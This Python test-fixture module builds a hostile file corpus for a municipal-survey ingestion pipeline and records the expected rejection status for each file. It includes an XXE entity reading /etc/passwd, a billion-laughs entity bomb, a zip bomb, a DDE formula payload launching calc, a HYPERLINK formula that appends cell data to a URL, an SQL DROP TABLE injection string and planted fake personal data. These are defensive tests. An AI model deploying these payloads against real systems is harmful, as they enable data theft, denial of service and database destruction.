"""The hostile and broken landing zone of project issue 7: what is committed, what is built.

Small files are committed in `corpus/` (one per contract reason code, and the awkward values).
Big files, and names a repository cannot carry portably (newlines, quotes, bytes that are not
UTF-8), are built at test time by the recipes below, into a folder the test owns.

`EXPECTED` is the ledger row each file must end as: (status, reason_code), worked out by hand
from the contract (sections 2–3), never by the pipeline.
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import zipfile
from pathlib import Path

import xlsxwriter

CORPUS = Path(__file__).resolve().parent / "corpus"
MIB = 1_048_576

# The committed files: name → (status, reason_code).
COMMITTED = {
    "anteckning.pdf": ("rejected", "unsupported_type"),
    "tom.csv": ("rejected", "empty"),
    "bara_separatorer.csv": ("rejected", "empty"),
    "nul_tecken.csv": ("rejected", "unreadable"),
    # 0x81 and 0x8D are not UTF-8 and have no character in Windows-1252 either.
    "ogiltig_kodning.csv": ("rejected", "unreadable"),
    "engelsk_rubrik.csv": ("rejected", "bad_header"),
    "saknar_ar.csv": ("rejected", "missing_metadata"),
    "kommun_9999.csv": ("rejected", "unknown_municipality"),
    "ar_tva_siffror.csv": ("rejected", "bad_year"),
    "fel_arsmapp.csv": ("rejected", "year_mismatch"),
    "datum_i_ord.csv": ("rejected", "bad_timestamp"),
    "dubbel_fraga.csv": ("rejected", "duplicate_question"),
    "inget_zip.xlsx": ("rejected", "unreadable"),
    ".~lock.blankett.csv#": ("ignored", None),
    # Readable files whose answers are hostile: selected, their blocks invalid where the
    # values are (1e308, NaN, inf, 0x10 are not plain finite decimal numbers; -0 is zero).
    "konstiga_tal.csv": ("selected", None),
    "formler.csv": ("selected", None),
}

# The awkward answers of konstiga_tal.csv (block A of kommun 0127): question → the rule.
STRANGE_NUMBERS = {
    "handl_kvinnor": ("1e308", "unparseable_value"),
    "handl_man": ("NaN", "not_finite"),
    "handl_totalt": ("inf", "not_finite"),
    "handl_socionom_lt1ar": ("-0", None),
    "handl_utan_socionom_kvinnor": ("0x10", "unparseable_value"),
}
FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"Klicka här")'
SQL_INJECTION = "'; DROP TABLE quality.file_ledger; --"


def _csv(rows: list[tuple[str, str]]) -> bytes:
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows([("fraga", "svar"), *rows])
    return text.getvalue().encode("utf-8")


def _meta(kommunkod: str, ar: str = "2016", inlamnad: str = "2016-11-20") -> list[tuple[str, str]]:
    return [("kommunkod", kommunkod), ("ar", ar), ("inlamnad", inlamnad)]


def write_committed_corpus(target: Path = CORPUS) -> None:
    """Writes the committed corpus (run once by hand; the files are in git)."""
    files = {
        "anteckning.pdf": b"%PDF-1.4\n% inte en blankett\n",
        "tom.csv": b"",
        "bara_separatorer.csv": b";;;\r\n;\r\n\r\n",
        "nul_tecken.csv": b"fraga;svar\r\nkommunkod;01\x0080\r\n",
        "ogiltig_kodning.csv": b"fraga;svar\r\nkommunkod;0180\r\nkommentar;\x81\x8d\r\n",
        "engelsk_rubrik.csv": _csv([]).replace(b"fraga;svar", b"question;answer")
        + b"kommunkod;0180\r\n",
        "saknar_ar.csv": _csv([("kommunkod", "0180"), ("inlamnad", "2016-11-20")]),
        "kommun_9999.csv": _csv(_meta("9999")),
        "ar_tva_siffror.csv": _csv(_meta("0180", ar="16")),
        "fel_arsmapp.csv": _csv(_meta("0180", ar="2015")),
        "datum_i_ord.csv": _csv(_meta("0180", inlamnad="20 november 2016")),
        "dubbel_fraga.csv": _csv(_meta("0180") + [("handl_man", "3"), ("HANDL_MAN ", "4")]),
        "inget_zip.xlsx": b"PK\x03\x04 detta ser ut som en zip men ar det inte",
        ".~lock.blankett.csv#": b"Asa,host,2016-11-20",
        "konstiga_tal.csv": _csv(
            _meta("0127") + [(q, text) for q, (text, _rule) in STRANGE_NUMBERS.items()]
        ),
        "formler.csv": _csv(
            _meta("0128") + [("uppf_medarbetarsamtal", FORMULA), ("=cmd|' /C calc'!A0", "=1+1")]
        ),
    }
    target.mkdir(parents=True, exist_ok=True)
    for name, data in files.items():
        (target / name).write_bytes(data)


# --- built at test time ---------------------------------------------------------------------


def _xlsx_bytes(rows: list[tuple[str, str]]) -> bytes:
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet()
    for index, (question, answer) in enumerate([("fraga", "svar"), *rows]):
        sheet.write_string(index, 0, question)
        sheet.write_string(index, 1, answer)
    workbook.close()
    return buffer.getvalue()


def _with_sheet_xml(xlsx: bytes, transform) -> bytes:
    """The workbook with its first sheet's XML rewritten."""
    source = zipfile.ZipFile(io.BytesIO(xlsx))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            data = source.read(member.filename)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = transform(data)
            target.writestr(member, data)
    return out.getvalue()


def billion_laughs_xlsx() -> bytes:
    """Ten levels of ten entity references: 10^10 'lol' if a parser expanded them."""
    entities = '<!ENTITY lol0 "lol">' + "".join(
        f'<!ENTITY lol{level} "{f"&lol{level - 1};" * 10}">' for level in range(1, 10)
    )

    def transform(xml: bytes) -> bytes:
        declaration, _, rest = xml.partition(b"?>")
        doctype = f"<!DOCTYPE worksheet [{entities}]>".encode()
        return declaration + b"?>" + doctype + rest.replace(b"kommunkod", b"&lol9;", 1)

    return _with_sheet_xml(_xlsx_bytes(_meta("0136")), transform)


def external_entity_xlsx() -> bytes:
    """An entity that would read /etc/passwd into a cell."""

    def transform(xml: bytes) -> bytes:
        declaration, _, rest = xml.partition(b"?>")
        doctype = b'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        return declaration + b"?>" + doctype + rest.replace(b"kommunkod", b"&xxe;", 1)

    return _with_sheet_xml(_xlsx_bytes(_meta("0138")), transform)


def zip_bomb_xlsx() -> bytes:
    """A real workbook plus a 64 MiB member of zeros that compresses to ~64 KiB."""
    source = zipfile.ZipFile(io.BytesIO(_xlsx_bytes(_meta("0139"))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for member in source.infolist():
            target.writestr(member, source.read(member.filename))
        with target.open("xl/media/bomb.bin", "w", force_zip64=True) as bomb:
            chunk = bytes(MIB)
            for _ in range(64):
                bomb.write(chunk)
    return out.getvalue()


def single_line_10_mib() -> bytes:
    """10 MiB without one line break."""
    return b"fraga;svar;" + b"x" * (10 * MIB)


def rows_100_000_just_under_limit() -> bytes:
    """A readable submission of 100 000 rows whose size is just under 1 MiB.

    The padding rows are unanswered questions (an empty answer is not answered), so the
    file is selected with no findings from them.
    """
    head = _csv(_meta("0140"))
    padding_rows = 100_000 - head.count(b"\n")
    row = b"x;\n"
    body = head + row * padding_rows
    filler = MIB - 1 - len(body)
    assert filler >= 0
    # Widen the padding ids to land 1 byte under the limit, keeping the row count.
    wide, extra = divmod(filler, padding_rows)
    rows = [
        b"x" + b"y" * (wide + (1 if index < extra else 0)) + b";\n" for index in range(padding_rows)
    ]
    data = head + b"".join(rows)
    assert len(data) == MIB - 1 and data.count(b"\n") == 100_000
    return data


# --- personal data in every place a submission's content offers (project issue 24) ----------
#
# Contract section 2: none of it may reach the warehouse, the published files, the Dagster
# instance or the alerts. tests/test_personal_data.py searches every output for these strings;
# test_reliability_hostile.py searches the hostile run's warehouse for them. File names are kept
# by the contract, so no name below holds any.

PERSON_NAME = "Åsa Öberg"
PERSON_EMAIL = "asa.oberg@kommun.se"
PERSONAL_IDENTITY_NUMBER = "19121212-1212"
TELEPHONE_NUMBER = "070-123 45 67"
PLANTED = (PERSON_NAME, PERSON_EMAIL, PERSONAL_IDENTITY_NUMBER, TELEPHONE_NUMBER)


def _csv_lines(rows: list[tuple[str, str]], header: str = "fraga;svar") -> list[str]:
    text = io.StringIO()
    csv.writer(text, delimiter=";", lineterminator="\n").writerows(rows)
    return [header, *text.getvalue().splitlines()]


def _personal_xlsx(kommunkod: str) -> bytes:
    """A workbook whose sheet is named after a person, with a name in the header beyond column
    B, personal data in both columns, and an e-mail address beyond column B of an answer row."""
    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet(PERSON_NAME)
    rows = [
        ("fraga", "svar", PERSON_NAME),
        *_meta(kommunkod),
        (PERSON_NAME, PERSON_EMAIL),
        ("handl_man", PERSONAL_IDENTITY_NUMBER),
        ("handl_kvinnor", "3", PERSON_EMAIL),
        ("kontaktperson", PERSON_NAME),
        (TELEPHONE_NUMBER, ""),
    ]
    for index, row in enumerate(rows):
        for column, text in enumerate(row):
            sheet.write_string(index, column, text)
    workbook.close()
    return buffer.getvalue()


def personal_data_files() -> dict[bytes, tuple[bytes, tuple[str, str | None]]]:
    """name → (bytes, expected (status, reason_code)), in 2016, for municipalities no other file
    of the small or hostile landing zones uses."""
    name, email, pnr, phone = PLANTED
    as_questions = "\n".join(
        [
            *_csv_lines(
                _meta("0428")
                + [
                    (name, "kontaktperson"),  # the columns of the contact rows swapped
                    (email, "kontakt_epost"),
                    (pnr, "1"),
                    (phone, "2"),
                    ("", name),  # an answer without a question
                    ("okand_fraga", email),  # an unknown question with a personal answer
                    ("kontaktperson", name),
                    ("kontakt_epost", email),
                ]
            ),
            name,  # a row without a delimiter
        ]
    )
    as_answers = "\n".join(
        [
            *_csv_lines(
                _meta("0461")
                + [
                    ("handl_man", email),  # fte
                    ("handl_magister", pnr),  # persons
                    ("uppf_medarbetarsamtal", name),  # yes_no
                    ("genomfort_handlaggare", phone),  # yes_partly_no
                    ("komp_uppfoljning_utvardering_grund", pnr),  # not in the 2016 form
                    ("handl_kvinnor", email),  # the same answer twice
                    ("handl_kvinnor", email),
                ]
            ),
            f"handl_totalt;{name};{email}",  # more fields than fraga and svar
            f"arbl_totalt;{phone};",
        ]
    )
    windows_1252 = "\r\n".join(
        _csv_lines(_meta("0480") + [(name, "3"), ("handl_man", name), ("arbl_totalt", phone)])
    )
    header = "\n".join(
        _csv_lines(_meta("0488") + [("handl_man", "2")], header=f"fraga;svar;{name}")
    )

    def rejected(rows: list[tuple[str, str]], extra: str = "") -> bytes:
        return ("\n".join(_csv_lines(rows)) + "\n" + extra).encode("utf-8")

    return {
        b"personuppgift_som_fraga.csv": (as_questions.encode("utf-8"), ("selected", None)),
        b"personuppgift_som_svar_bom.csv": (
            b"\xef\xbb\xbf" + as_answers.encode("utf-8"),
            ("selected", None),
        ),
        b"personuppgift_windows_1252.csv": (windows_1252.encode("cp1252"), ("selected", None)),
        b"personuppgift_i_rubriken.csv": (header.encode("utf-8"), ("selected", None)),
        b"personuppgift.xlsx": (_personal_xlsx("0481"), ("selected", None)),
        b"personuppgift_som_rubrik.csv": (
            f"{name};{email}\nkommunkod;0482\n".encode(),
            ("rejected", "bad_header"),
        ),
        b"kommunkod_personnummer.csv": (
            rejected(_meta(pnr)),
            ("rejected", "unknown_municipality"),
        ),
        b"ar_telefonnummer.csv": (rejected(_meta("0483", ar=phone)), ("rejected", "bad_year")),
        b"ar_med_extra_falt.csv": (
            rejected([("kommunkod", "0484"), ("inlamnad", "2016-11-20")], f"ar;2016;{name}\n"),
            ("rejected", "bad_year"),
        ),
        b"inlamnad_namn.csv": (
            rejected(_meta("0486", inlamnad=name)),
            ("rejected", "bad_timestamp"),
        ),
        b"kommunkod_tva_svar.csv": (
            rejected(_meta("0509") + [("kommunkod", email), ("handl_man", email)]),
            ("rejected", "duplicate_question"),
        ),
    }


# name → (bytes, expected (status, reason_code)); the names hold what git cannot carry.
def built_files() -> dict[bytes, tuple[bytes, tuple[str, str | None]]]:
    def submission(kommunkod: str) -> bytes:
        return _csv(_meta(kommunkod) + [("handl_man", "2")])

    return {
        b"billion_laughs.xlsx": (billion_laughs_xlsx(), ("rejected", "unreadable")),
        b"external_entity.xlsx": (external_entity_xlsx(), ("rejected", "unreadable")),
        b"zip_bomb.xlsx": (zip_bomb_xlsx(), ("rejected", "too_large")),
        b"en_rad_10_MiB.csv": (single_line_10_mib(), ("rejected", "too_large")),
        # Exactly 1 MiB is within the limit, and no field is too long below it (contract
        # section 2): its one row, without a delimiter, is a warning; the metadata are missing.
        b"exakt_1_MiB.csv": (b"fraga;svar\n" + b"x" * (MIB - 11), ("rejected", "missing_metadata")),
        b"over_1_MiB.csv": (b"fraga;svar\n" + b"x" * (MIB - 10), ("rejected", "too_large")),
        b"100000_rader.csv": (rows_100_000_just_under_limit(), ("selected", None)),
        b"namn med mellanslag.csv": (submission("0160"), ("selected", None)),
        b"namn \"med\" 'citat'.csv": (submission("0162"), ("selected", None)),
        b"namn med\nradbrytning.csv": (submission("0163"), ("selected", None)),
        "Årsbok för Håbo kommun ÅÄÖ.csv".encode(): (submission("0305"), ("selected", None)),
        b"ogiltigt_namn_\xff\xfe.csv": (submission("0319"), ("selected", None)),
        (SQL_INJECTION + ".csv").encode(): (
            _csv(
                _meta("0330")
                + [
                    ("handl_man", SQL_INJECTION),
                    ("x" + SQL_INJECTION, "1"),
                    ("plan_handlaggare", SQL_INJECTION),
                ]
            ),
            ("selected", None),
        ),
        **personal_data_files(),
    }


def build_hostile_files(folder: Path) -> dict[str, tuple[str, str | None]]:
    """Copies the corpus and builds the rest into `folder`, plus a symlink.

    Returns the expected ledger row per file name as the ledger shows it (the bytes of a name
    that is not UTF-8 escaped, "\\xff").
    """
    folder.mkdir(parents=True, exist_ok=True)
    expected: dict[str, tuple[str, str | None]] = {}
    for name, status in COMMITTED.items():
        shutil.copyfile(CORPUS / name, folder / name)
        expected[name] = status
    for raw_name, (data, status) in built_files().items():
        with open(os.path.join(os.fsencode(folder), raw_name), "wb") as handle:
            handle.write(data)
        expected[raw_name.decode("utf-8", "backslashreplace")] = status
    (folder / "lank.csv").symlink_to(CORPUS / "konstiga_tal.csv")
    expected["lank.csv"] = ("rejected", "symlink")
    return expected
